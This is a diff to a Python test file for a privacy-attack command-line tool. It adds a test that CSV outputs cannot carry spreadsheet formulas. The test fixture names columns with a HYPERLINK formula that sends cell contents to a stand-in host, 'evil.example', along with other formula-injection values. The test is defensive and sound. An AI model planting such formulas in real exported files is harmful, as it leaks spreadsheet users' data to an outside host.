@@ -10,10 +10,11 @@ from pathlib import Path
 
 import numpy as np
 import pyarrow as pa
-import pyarrow.parquet
 import pytest
+from pyarrow import parquet
 
 from PETWorks.attacks.subsets import every_subset
+from PETWorks.values import is_number
 from test_cli import PATIENT, petworks
 from test_subsets import DOCUMENT, release_of
 
@@ -82,7 +83,7 @@ def test_a_row_for_each_subset_in_a_file(folder):
         done = petworks(*ATTACK, "--subsets", "all", "-o", name, cwd=folder)
         assert done.returncode == 0, done.stderr
         assert ("If they know" in done.stdout) == (name != "out.json")
-    assert pyarrow.parquet.read_table(folder / "out.parquet").to_pylist() == rows
+    assert parquet.read_table(folder / "out.parquet").to_pylist() == rows
     assert json.loads((folder / "out.json").read_text("utf-8"))["subsets"]["rows"] == rows
     with (folder / "out.csv").open(newline="", encoding="utf-8") as file:
         texts = list(csv.DictReader(file))
@@ -164,7 +165,7 @@ def test_interrupted_and_gone_on_with(tmp_path):
     rng = np.random.default_rng(5)
     names = [f"q{number:02}" for number in range(12)]
     columns = {name: pa.array(rng.integers(0, 3 + number, 150_000)) for number, name in enumerate(names)}
-    pyarrow.parquet.write_table(pa.table(columns), tmp_path / "t.parquet")
+    parquet.write_table(pa.table(columns), tmp_path / "t.parquet")
     attack = ("attack", "t.parquet", "--qi", ",".join(names), "--subsets", "all", "-o", "out.csv")
     command = [str(Path(sys.executable).with_name("petworks")), *attack]
     running = subprocess.Popen(command, cwd=tmp_path, stderr=subprocess.PIPE, stdout=subprocess.PIPE, text=True)
@@ -193,3 +194,22 @@ def test_interrupted_and_gone_on_with(tmp_path):
     assert not unfinished.exists()
     assert petworks(*attack[:-1], "whole.csv", cwd=tmp_path).returncode == 0
     assert (tmp_path / "out.csv").read_bytes() == (tmp_path / "whole.csv").read_bytes()
+
+
+def test_no_cell_of_a_written_table_is_a_formula(tmp_path):
+    """Whoever opens it in a spreadsheet gets texts and numbers."""
+    names = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+1", "@SUM(1)", "-2"]
+    table = pa.table([pa.array(["=1+1", "+a", "@b", "-c"])] * 4, names=names)
+    parquet.write_table(table, tmp_path / "t.parquet")
+    quoted = ['"' + name.replace('"', '""') + '"' for name in names]
+    options = ("--qi", ",".join(quoted[:3]), "--sensitive", quoted[3], "--subsets", "all")
+    done = petworks(
+        "attack", tmp_path / "t.parquet", *options, "-o", tmp_path / "s.csv", "--per-record", tmp_path / "r.csv"
+    )
+    assert done.returncode == 0, done.stderr
+    for path in (tmp_path / "s.csv", tmp_path / "r.csv"):
+        with path.open(newline="", encoding="utf-8") as file:
+            cells = [cell for row in csv.reader(file) for cell in row]
+        assert len(cells) > 20
+        assert [cell for cell in cells if cell.startswith(("=", "+", "@", "\t", "\r"))] == []
+        assert [cell for cell in cells if cell.startswith("-") and not is_number(cell)] == []
